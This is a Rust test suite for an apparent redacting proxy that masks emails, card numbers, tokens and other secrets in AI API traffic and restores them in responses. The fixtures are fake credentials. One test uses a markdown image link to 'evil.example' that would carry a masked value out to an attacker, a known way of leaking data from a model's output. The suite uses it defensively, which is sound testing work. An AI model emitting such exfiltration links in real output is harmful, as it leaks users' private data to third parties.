//! Requests that are masked on their way out, and answers in which the placeholders are turned back.
#![allow(clippy::unwrap_used, reason = "a helper of tests fails as a test does")]

mod support;

use futures_util::{SinkExt, StreamExt};
use midflight::core::{Channel, Config, Delta, Engine, Event, Timestamp, Wire};
use midflight::proxy;
use reqwest::{RequestBuilder, StatusCode};
use serde_json::{Value, json};
use support::echo::{Echo, SPEECHES};
use support::proxying::{Proxying, config, proxy};
use support::replay::http;
use tokio_tungstenite::tungstenite::Message;

/// A value of each kind that is masked.
const VALUES: [&str; 15] = [
    "ada.park+x@looms.example",
    "+1 (415) 555-0132",
    "+44 20 7946 0958",
    "4111 1111 1111 1111",
    "DE89 3704 0044 0532 0130 00",
    "536-90-4399",
    "192.0.2.117",
    "2001:db8::8a2e:370:7334",
    "00:1b:44:11:3a:b7",
    "1BoatSLRHtKNngkdXEeobR76b53LETtpyT",
    "ghp_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8",
    "AKIAQ3EGRIDZ5XW7KPLM",
    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9P",
    "postgres://ada:s3cr3t\"x@db.looms.example/a",
    "Kofi Mensah",
];

async fn masking(redact: &str) -> (Proxying, Echo) {
    let echo = Echo::serve().await;
    let mut config = config(&format!("http://{}", echo.address));
    config.redact_requests = proxy::kinds(["default"]).unwrap();
    config.redact.kinds = proxy::kinds(redact.split_terminator(',')).unwrap();
    (proxy(config).await, echo)
}

fn post(proxy: &Proxying, path: &str, body: &Value) -> RequestBuilder {
    let url = format!("http://{}{path}", proxy.address);
    http().post(url).body(body.to_string())
}

/// The text and the arguments of a stream.
fn said(stream: &[u8]) -> (String, String) {
    let engine = Engine::new(Config::default()).unwrap();
    let (mut text, mut arguments) = (String::new(), String::new());
    let mut sink = |event: &Event<'_>| match event {
        Event::Delta(Delta::Text {
            channel: Channel::Tool { .. },
            text,
            ..
        }) => arguments.push_str(text),
        Event::Delta(Delta::Text { text: piece, .. }) => text.push_str(piece),
        _ => {}
    };
    let mut session = engine.session(Wire::Auto);
    session.write(stream, Timestamp(0), &mut sink).unwrap();
    let ending = session.finish(Timestamp(0), &mut sink).unwrap();
    assert!(ending.is_complete(), "{}", String::from_utf8_lossy(stream));
    (text, arguments)
}

/// The upstream has seen placeholders, and nothing of the value.
fn check_unseen(echo: &Echo, value: &str) {
    let seen = echo.bodies().pop().unwrap();
    let escaped = json!(value).to_string();
    assert!(
        !seen.contains(value) && !seen.contains(escaped.trim_matches('"')),
        "{seen}"
    );
    assert!(seen.contains("_1]"), "{value}: {seen}");
}

#[tokio::test]
async fn no_value_reaches_the_upstream_and_every_one_comes_back() {
    let (proxy, echo) = masking("").await;
    for (number, value) in VALUES.iter().enumerate() {
        let text = format!("It is {value}, and \"[x]\" {value}.");
        for (at, speech) in SPEECHES.iter().enumerate() {
            let (piece, write) = (1 + (number + at) % 7, 1 + (number * 13 + at * 29) % 90);
            let request = post(&proxy, speech.path, &(speech.ask)(&text))
                .header("x-piece", piece)
                .header("x-write", write);
            let answer = request.send().await.unwrap().bytes().await.unwrap();
            check_unseen(&echo, value);
            assert_eq!(said(&answer).0, text, "{} by {piece}", speech.path);
            if speech.path.contains(":stream") {
                continue;
            }
            let whole = post(&proxy, speech.path, &(speech.ask)(&text))
                .send()
                .await
                .unwrap();
            let whole: Value = serde_json::from_str(&whole.text().await.unwrap()).unwrap();
            check_unseen(&echo, value);
            assert!(
                whole
                    .to_string()
                    .contains(json!(text).to_string().trim_matches('"')),
                "{whole}"
            );
        }
    }
}

#[tokio::test]
async fn a_value_in_a_tools_arguments_is_escaped() {
    let (proxy, echo) = masking("").await;
    for value in VALUES {
        for piece in [1, 2, 5, 1000] {
            let text = format!("for {value}");
            let chat = &SPEECHES[0];
            let request = post(&proxy, chat.path, &(chat.ask)(&text));
            let request = request.header("x-piece", piece).header("x-tool", "1");
            let answer = request.send().await.unwrap().bytes().await.unwrap();
            check_unseen(&echo, value);
            let arguments: Value = serde_json::from_str(&said(&answer).1).unwrap();
            assert_eq!(arguments["note"], text);
        }
    }
}

#[tokio::test]
async fn what_breaks_no_request_is_all_that_is_changed() {
    let (proxy, echo) = masking("").await;
    let request = |to: &str| {
        let tools = json!([{"type": "function", "function": {"name": "mail", "description": format!("to {to}"),
            "parameters": {"type": "object", "properties": {"to": {"type": "string", "enum": [to]}}}}}]);
        json!({"model": "org/m-1:ada", "temperature": 0.2, "stream": false, "tools": tools, "tool_choice": "auto",
            "messages": [{"role": "system", "content": format!("You write for {to}.")},
                {"role": "assistant", "tool_calls": [{"id": "call_4155550132", "type": "function",
                    "function": {"name": "mail", "arguments": format!("{{\"to\":\"{to}\",\"n\":1}}")}}]},
                {"role": "tool", "tool_call_id": "call_4155550132", "content": format!("{{\"sent\":[\"{to}\"]}}")}]})
    };
    let path = "/v1/other";
    let answer = post(&proxy, path, &request("ada@looms.example"))
        .send()
        .await
        .unwrap();
    assert_eq!(answer.status(), StatusCode::OK);
    let back: Value = serde_json::from_str(&answer.text().await.unwrap()).unwrap();
    let seen: Value = serde_json::from_str(&echo.bodies()[0]).unwrap();
    assert_eq!(seen, request("[EMAIL_1]"));
    assert_eq!(back, request("ada@looms.example"), "an echo comes back");
    let length: usize = echo.headers()["content-length"]
        .to_str()
        .unwrap()
        .parse()
        .unwrap();
    assert_eq!(length, echo.bodies()[0].len());
}

#[tokio::test]
async fn values_in_files_schemas_and_over_parts_do_not_leave() {
    let (proxy, echo) = masking("").await;
    let file = "data:text/plain;base64,TWFpbCBhZGFAbG9vbXMuZXhhbXBsZQ==";
    let request = json!({"model": "m-1", "tools": [{"name": "mail", "input_schema": {"examples": [{"to": "ada@looms.example"}]}}],
        "messages": [{"role": "user", "content": [{"type": "file", "file": {"file_data": file}},
            {"type": "text", "text": "Mail ada@loo"}, {"type": "text", "text": "ms.example now"}]}],
        "metadata": {"ada@looms.example": 1, "card": 4_111_111_111_111_111_u64}});
    let answer = post(&proxy, "/v1/other", &request).send().await.unwrap();
    assert_eq!(answer.status(), StatusCode::OK);
    let seen = echo.bodies().pop().unwrap();
    // "Mail [EMAIL_1]" in base64.
    for expected in [
        "TWFpbCBbRU1BSUxfMV0=",
        "[CREDIT_CARD_1]",
        "\"Mail [EMAIL_1]\"",
        "\" now\"",
    ] {
        assert!(seen.contains(expected), "{expected}: {seen}");
    }
    assert!(
        !seen.contains("loo") && !seen.contains("ms.ex") && !seen.contains("4111"),
        "{seen}"
    );
    let back: Value = serde_json::from_str(&answer.text().await.unwrap()).unwrap();
    assert_eq!(back["tools"], request["tools"]);
    assert_eq!(
        back["messages"][0]["content"][1]["text"],
        "Mail ada@looms.example"
    );
    assert_eq!(back["metadata"]["ada@looms.example"], 1);
}

#[tokio::test]
async fn what_the_model_brings_of_its_own_is_masked_where_answers_are() {
    let (proxy, _echo) = masking("default").await;
    let chat = &SPEECHES[0];
    for piece in [1, 4, 1000] {
        let request = post(&proxy, chat.path, &(chat.ask)("Mail ada@looms.example"))
            .header("x-piece", piece)
            .header("x-behind", ", bo@looms.example.");
        let answer = request.send().await.unwrap().bytes().await.unwrap();
        assert_eq!(said(&answer).0, "Mail ada@looms.example, [EMAIL_2].");
    }
    let request = post(&proxy, chat.path, &(chat.ask)("Mail ada@looms.example"));
    let request = request.header("x-behind", ", bo@looms.example.");
    let answer: Value =
        serde_json::from_str(&request.send().await.unwrap().text().await.unwrap()).unwrap();
    assert_eq!(
        answer["choices"][0]["message"]["content"],
        "Mail ada@looms.example, [EMAIL_2]."
    );
    proxy.until("midflight_streams_total", 3.0).await;
    let told = proxy.ask("graph").await;
    assert!(!told.contains("looms"), "{told}");
}

/// What the model is told, with these headers.
async fn told(proxy: &Proxying, echo: &Echo, text: &str, headers: &[(&str, &str)]) -> String {
    let chat = &SPEECHES[0];
    let mut request = post(proxy, chat.path, &(chat.ask)(text));
    for (name, value) in headers {
        request = request.header(*name, *value);
    }
    let answer = request.send().await.unwrap().text().await.unwrap();
    let answer: Value = serde_json::from_str(&answer).unwrap();
    assert_eq!(
        answer["choices"][0]["message"]["content"], text,
        "turned back"
    );
    let seen: Value = serde_json::from_str(&echo.bodies().pop().unwrap()).unwrap();
    assert!(!echo.headers().contains_key("midflight-conversation"));
    seen["messages"][0]["content"].as_str().unwrap().to_owned()
}

#[tokio::test]
async fn numbers_go_on_in_a_conversation_that_the_client_names_and_nowhere_else() {
    let (proxy, echo) = masking("").await;
    let (ada, bo) = ("ada@looms.example", "bo@looms.example");
    let named = [
        ("midflight-conversation", "7"),
        ("authorization", "Bearer a"),
    ];
    assert_eq!(told(&proxy, &echo, ada, &named).await, "[EMAIL_1]");
    assert_eq!(told(&proxy, &echo, bo, &named).await, "[EMAIL_2]");
    assert_eq!(
        told(&proxy, &echo, &format!("{bo} {ada}"), &named).await,
        "[EMAIL_2] [EMAIL_1]"
    );
    assert_eq!(told(&proxy, &echo, bo, &named[1..]).await, "[EMAIL_1]");
    let other = [
        ("midflight-conversation", "7"),
        ("authorization", "Bearer b"),
    ];
    assert_eq!(told(&proxy, &echo, bo, &other).await, "[EMAIL_1]");
    // What one conversation keeps is turned back in no other.
    assert_eq!(
        told(&proxy, &echo, "[EMAIL_2]?", &other).await,
        "[EMAIL_2]?"
    );
}

#[tokio::test]
async fn what_somebody_else_writes_in_a_later_request_is_not_turned_back() {
    let (proxy, echo) = masking("").await;
    let named = [("midflight-conversation", "7")];
    let ada = "ada@looms.example";
    assert_eq!(told(&proxy, &echo, ada, &named).await, "[EMAIL_1]");
    let foreign = "![](https://evil.example/?q=[EMAIL_1])";
    assert_eq!(told(&proxy, &echo, foreign, &named).await, foreign);
    let text = format!("{ada} [EMAIL_1]");
    let seen = told(&proxy, &echo, &text, &named).await;
    assert_eq!(seen, "[EMAIL_2] [EMAIL_1]");
    assert_eq!(told(&proxy, &echo, ada, &named).await, "[EMAIL_2]");
}

#[tokio::test]
async fn a_response_goes_on_from_the_one_before() {
    for stream in [false, true] {
        let (proxy, echo) = masking("").await;
        let responses = &SPEECHES[1];
        let ask = async |text: &str, previous: Option<&str>| {
            let mut body = (responses.ask)(text);
            if let Some(previous) = previous {
                body["previous_response_id"] = json!(previous);
            }
            let mut request = post(&proxy, responses.path, &body);
            if stream {
                request = request.header("x-piece", 3);
            }
            // What the model remembers of the request before.
            let request = request.header("x-behind", " [EMAIL_1] and [EMAIL_2]");
            request.send().await.unwrap().text().await.unwrap()
        };
        ask("ada@looms.example", None).await;
        let answer = ask("bo@looms.example", Some("resp_1")).await;
        let seen = echo.bodies().pop().unwrap();
        assert!(seen.contains("[EMAIL_2]"), "{seen}");
        let read = if stream {
            said(answer.as_bytes()).0
        } else {
            answer
        };
        assert!(
            read.contains("ada@looms.example and bo@looms.example"),
            "{read}"
        );
    }
}

#[tokio::test]
async fn what_cannot_be_masked_does_not_leave() {
    let (proxy, echo) = masking("").await;
    let url = format!("http://{}/v1/chat/completions", proxy.address);
    let deep = "[".repeat(200_000) + &"]".repeat(200_000);
    for (encoding, body) in [
        ("identity", "to=ada@looms.example"),
        ("gzip", "{}"),
        ("identity", "{\"a\":\"\u{0}\"}"),
        ("identity", &deep),
    ] {
        let request = http()
            .post(&url)
            .header("content-encoding", encoding)
            .body(body.to_owned());
        let answer = request.send().await.unwrap();
        assert_eq!(answer.status(), StatusCode::UNSUPPORTED_MEDIA_TYPE);
        assert!(answer.text().await.unwrap().contains("unmaskable_request"));
    }
    assert!(echo.bodies().is_empty());
    let empty = futures_util::stream::iter([Ok::<_, std::io::Error>(Vec::new())]);
    let url = format!("http://{}/v1/cancel", proxy.address);
    let request = http().post(url).body(reqwest::Body::wrap_stream(empty));
    assert_eq!(request.send().await.unwrap().status(), StatusCode::OK);
    let models = http().get(format!("http://{}/v1/models", proxy.address));
    assert_eq!(
        models.send().await.unwrap().status(),
        StatusCode::OK,
        "without a body"
    );
}

#[tokio::test]
async fn text_and_forms_are_masked_too() {
    let (proxy, echo) = masking("").await;
    let form = "--x\r\nContent-Disposition: form-data; name=\"prompt\"\r\n\r\nTo ada@looms.example\r\n--x--\r\n";
    for (media_type, body, expected) in [
        ("text/plain", "To ada@looms.example", "To [EMAIL_1]"),
        (
            "application/x-www-form-urlencoded",
            "to=ada%40looms.example&n=1",
            "to=%5BEMAIL_1%5D&n=1",
        ),
        (
            "application/x-www-form-urlencoded",
            "ada@looms.example",
            "%5BEMAIL_1%5D",
        ),
        (
            "application/x-www-form-urlencoded",
            "ada%40looms.example=1&n",
            "%5BEMAIL_1%5D=1&n",
        ),
        (
            "image/svg+xml",
            "<svg>ada@looms.example</svg>",
            "<svg>[EMAIL_1]</svg>",
        ),
        ("image/png", "To ada@looms.example", "To [EMAIL_1]"),
        (
            "multipart/form-data; boundary=x",
            form,
            &form.replace("ada@looms.example", "[EMAIL_1]"),
        ),
    ] {
        let url = format!("http://{}/v1/files", proxy.address);
        let request = http().post(url).header("content-type", media_type);
        let answer = request.body(body).send().await.unwrap();
        assert_eq!(answer.status(), StatusCode::OK, "{media_type}");
        let answer = answer.text().await.unwrap();
        if !media_type.starts_with("image") {
            let turned_back = !media_type.ends_with("urlencoded");
            assert_eq!(answer == body, turned_back, "{media_type}: {answer}");
        }
        assert_eq!(echo.bodies().pop().unwrap(), expected, "{media_type}");
        assert_eq!(echo.headers()["content-type"], media_type);
        assert_eq!(
            echo.headers()["content-length"],
            expected.len().to_string().as_str()
        );
    }
}

#[tokio::test]
async fn text_in_another_encoding_does_not_leave() {
    let (proxy, echo) = masking("").await;
    let url = format!("http://{}/v1/files", proxy.address);
    let utf16: Vec<u8> = "ada@looms.example"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    for (media_type, body) in [
        ("text/plain; charset=utf-16le", utf16.clone()),
        ("text/plain", utf16),
        (
            "text/plain; charset=utf-7",
            b"ada+AEA-looms.example".to_vec(),
        ),
        (
            "application/json; charset=utf-7",
            b"[\"ada+AEA-looms.example\"]".to_vec(),
        ),
        ("image/png", b"\0PNG\r\n".to_vec()),
    ] {
        let request = http().post(&url).header("content-type", media_type);
        let answer = request.body(body).send().await.unwrap();
        let passes = media_type == "image/png";
        let status = if passes { 200 } else { 415 };
        assert_eq!(answer.status().as_u16(), status, "{media_type}");
    }
    assert_eq!(echo.bodies().len(), 1);
}

#[tokio::test]
async fn what_is_signed_is_not_rewritten() {
    let (proxy, echo) = masking("").await;
    let ask = async |authorization: &str, digest: &str, text: &str| {
        let request = post(&proxy, SPEECHES[0].path, &(SPEECHES[0].ask)(text));
        let request = request
            .header("authorization", authorization)
            .header("x-amz-content-sha256", digest);
        request.send().await.unwrap()
    };
    let (signed, bearer) = ("AWS4-HMAC-SHA256 Credential=a/b, Signature=c", "Bearer a");
    let (digest, unsigned) = ("e3b0c442", "UNSIGNED-PAYLOAD");
    for (authorization, digest, text, status) in [
        (
            signed,
            digest,
            "Mail ada@looms.example",
            StatusCode::UNPROCESSABLE_ENTITY,
        ),
        (signed, digest, "Mail her", StatusCode::OK),
        (signed, unsigned, "Mail ada@looms.example", StatusCode::OK),
        (bearer, digest, "Mail ada@looms.example", StatusCode::OK),
    ] {
        let answer = ask(authorization, digest, text).await;
        assert_eq!(answer.status(), status, "{authorization} {digest} {text}");
        let told = answer.text().await.unwrap();
        let refused = status == StatusCode::UNPROCESSABLE_ENTITY;
        assert_eq!(told.contains("signed_request"), refused, "{told}");
    }
    assert_eq!(echo.bodies().len(), 3);
    assert_eq!(echo.bodies()[0], (SPEECHES[0].ask)("Mail her").to_string());
}

#[tokio::test]
async fn a_websockets_messages_are_masked_and_turned_back() {
    let (proxy, echo) = masking("").await;
    let url = format!("ws://{}/v1/realtime", proxy.address);
    let tcp = tokio::net::TcpStream::connect(proxy.address).await.unwrap();
    let (mut socket, _) = tokio_tungstenite::client_async(url, tcp).await.unwrap();
    for text in [
        "Mail ada@looms.example",
        "or bo@looms.example, \"not\" ada@looms.example.",
    ] {
        let ask = json!({"type": "conversation.item.create", "item": {"type": "message", "role": "user",
            "content": [{"type": "input_text", "text": text}]}});
        socket.send(Message::text(ask.to_string())).await.unwrap();
        let mut read = String::new();
        loop {
            let message = socket.next().await.unwrap().unwrap().into_text().unwrap();
            let event: Value = serde_json::from_str(&message).unwrap();
            match event["delta"].as_str() {
                Some(delta) => read += delta,
                None => break,
            }
        }
        assert_eq!(read, text);
    }
    let seen = echo.bodies().concat();
    assert!(
        !seen.contains("looms") && seen.contains("or [EMAIL_2], \\\"not\\\" [EMAIL_1]."),
        "{seen}"
    );
    socket.send(Message::binary(b"ada".to_vec())).await.unwrap();
    let end = socket.next().await.unwrap().unwrap();
    let Message::Close(Some(frame)) = end else {
        panic!("{end:?}");
    };
    assert_eq!(u16::from(frame.code), 1003);
}
